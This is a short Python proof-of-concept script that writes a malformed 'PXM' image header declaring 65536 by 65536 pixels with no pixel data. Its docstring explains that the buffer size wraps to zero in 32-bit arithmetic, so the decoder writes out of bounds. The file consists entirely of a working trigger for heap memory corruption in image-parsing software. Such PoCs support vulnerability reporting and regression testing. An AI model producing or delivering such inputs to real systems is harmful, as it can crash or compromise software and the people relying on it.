"""Writes the PoC: a PXM header of 65536 x 65536 pixels with 1 channel and no pixel data. The
buffer's size, width * height * channels, is computed in 32 bits and wraps to 0, so the first
pixel written (a short file is padded with black) lands outside the allocation."""

import struct
import sys

data = b"PXM1" + struct.pack("<II", 65536, 65536) + b"\x01"
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
